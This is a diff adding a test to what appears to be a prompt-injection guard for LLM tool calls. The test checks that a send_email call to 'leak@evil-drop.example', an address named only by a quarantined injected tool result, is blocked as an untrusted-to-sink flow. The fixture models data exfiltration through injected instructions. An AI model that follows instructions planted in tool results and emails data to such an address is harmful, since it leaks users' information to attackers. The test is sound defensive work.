@@ -98,6 +98,16 @@ t.test('Responses and Messages: injected tool results are quarantined, the reque
     t.match(streamed.headers['x-bastion-quarantine'], /^1; message=2 call_id=toolu_ticket/);
   });
 
+  t.test('Messages: a quarantined tool_result still taints a send_email to the address only it named', async (t) => {
+    const send = toolUseBlock('toolu_send', 'send_email', { to: 'leak@evil-drop.example', subject: 'Q3 report', body: 'Summary of the Q3 report.' });
+    upstream.on((_req, res) => sendAnthropicJson(res, anthropicMessage([send])));
+    const body = (await post()).json<{ content: Obj[]; stop_reason: string; bastion: { flow: { flow: string }; quarantine: Entry[] } }>();
+    t.equal(body.stop_reason, 'refusal');
+    t.notOk(body.content.some((b) => b.type === 'tool_use'), 'the call is not released');
+    t.equal(body.bastion.flow.flow, 'untrusted_to_sink');
+    t.equal(body.bastion.quarantine[0].call_id, 'toolu_ticket');
+  });
+
   // Whether such a result taints the flow state is the flow reader's part (server-side results as untrusted sources).
   t.test("Messages: a server-side tool's result (web_fetch) is quarantined too", async (t) => {
     const fetched = [
